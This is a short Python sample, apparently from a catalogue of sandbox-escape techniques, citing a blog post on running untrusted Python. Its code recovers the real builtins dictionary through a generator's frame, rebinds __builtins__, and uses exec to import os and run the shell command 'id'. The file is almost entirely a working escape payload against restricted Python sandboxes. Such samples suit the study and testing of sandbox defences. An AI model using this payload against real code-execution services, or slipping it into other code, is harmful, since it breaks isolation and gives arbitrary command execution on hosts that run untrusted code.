# Source: https://healeycodes.com/running-untrusted-python-code (__builtins__ = e.__traceback__...)
# Family: builtins-route
# What: rebinds the name __builtins__ to the real builtins dict taken from a frame
def g():
    yield

__builtins__ = g().gi_frame.f_builtins
__builtins__["exec"]("import os; os.system('id')")
